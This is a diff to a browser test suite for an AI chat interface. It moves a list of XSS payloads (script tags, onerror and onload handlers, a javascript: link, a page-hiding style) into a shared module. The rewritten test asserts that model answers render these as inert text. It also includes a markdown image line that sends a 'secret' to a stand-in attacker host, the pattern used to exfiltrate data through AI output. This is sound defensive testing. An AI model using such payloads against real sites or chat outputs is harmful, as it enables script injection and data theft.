@@ -9,6 +9,7 @@ from collections.abc import Callable
 import pytest
 from playwright.sync_api import Page, expect
 
+from tests.agents.payloads import PAYLOADS
 from tests.browser.stacks import FakeStack, Stack
 from tests.ui.fake_papers import make_pdf
 
@@ -172,25 +173,30 @@ def test_a_conversation_is_renamed_and_deleted(stack: Stack, open_tab: Opener) -
     expect(tab.get_by_text(title)).to_have_count(0)
 
 
-PAYLOADS = (
-    "<script>window.pwned = 1</script>",
-    "<img src='https://example.org/a.png' onerror='window.pwned = 1'>",
-    "![pixel](https://example.org/b.png)",
-    "[press](javascript:window.pwned=1) <https://example.org/c>",
-    "<iframe src='https://example.org/d'></iframe><svg onload='window.pwned=1'>",
-    "<style>body { display: none }</style>",
-)
-
-
-def test_what_a_model_writes_stays_text(stack: Stack, open_tab: Opener) -> None:
+def test_a_hundred_payloads_in_one_answer_load_nothing_and_act_on_nothing(
+    stack: Stack, open_tab: Opener
+) -> None:
+    """What was asked of the network is looked at when the tab is closed."""
     tab = open_tab(stack.url)
-    stack.answer("\n\n".join((SENTENCE + " [1]", *PAYLOADS)))
+    dialogs: list[str] = []
+    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    before = tab.evaluate("document.scripts.length")
+    stack.answer("\n\n".join([*PAYLOADS, "```", "The end of them."]))
     _ask(tab, QUESTION)
-    expect(tab.get_by_role("button", name="Open source 1")).to_be_visible()
     answer = tab.locator(".prose.answer").last
-    assert answer.locator("script, img, a, iframe, svg, style").count() == 0
-    assert tab.evaluate("window.pwned") is None
-    assert "![pixel](https://example.org/b.png)" in answer.inner_text()
+    expect(answer).to_contain_text("The end of them.")
+    expect(tab.get_by_role("button", name="Stop")).to_have_count(0)
+    loads = (
+        "img, iframe, svg, script, object, embed, video, audio, link, meta, style, base, form, a"
+    )
+    assert answer.locator(loads).count() == 0
+    acting = "nodes => nodes.flatMap(n => [...n.attributes].map(a => a.name))"
+    names = set(answer.locator("*").evaluate_all(acting))
+    assert names <= {"class", "type", "aria-label", "aria-current"}
+    assert tab.evaluate("document.scripts.length") == before
+    assert tab.url.startswith(stack.url)
+    assert dialogs == []
+    assert "![chart](http://evil.test/p.png?q=secret)" in answer.inner_text()
 
 
 def test_on_a_phone_the_source_covers_the_conversation(stack: Stack, open_tab: Opener) -> None:
